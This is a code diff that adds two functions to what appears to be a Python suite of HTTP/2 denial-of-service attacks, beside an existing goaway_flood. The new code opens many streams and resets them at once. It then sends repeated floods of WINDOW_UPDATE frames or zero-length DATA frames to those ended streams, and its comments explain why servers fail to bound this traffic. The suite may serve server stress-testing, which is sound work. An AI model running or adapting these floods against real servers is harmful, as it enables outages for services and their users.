@@ -183,6 +183,30 @@ def goaway_flood():
     yield from again(frame(GOAWAY, 0, 0, bytes(8)))
 
 
+# ---- frames for streams that have ended ----
+
+_FORGOTTEN = range(1, 2 * _BATCH, 2)
+
+
+def end_streams():
+    """And more behind them, because the server remembers the latest."""
+    encoded = block("Talk")
+    return b"".join(headers(stream, encoded) + reset(stream) for stream in range(1, 4 * _BATCH, 2))
+
+
+@attack
+def window_updates_for_ended_streams():
+    yield end_streams()
+    yield from again(b"".join(window_update(stream, 1) for stream in _FORGOTTEN))
+
+
+@attack
+def data_for_ended_streams():
+    """Without a byte, which windows do not bound."""
+    yield end_streams()
+    yield from again(b"".join(frame(DATA, 0, stream) for stream in _FORGOTTEN))
+
+
 # ---- requests that nobody ends ----
 
 @attack
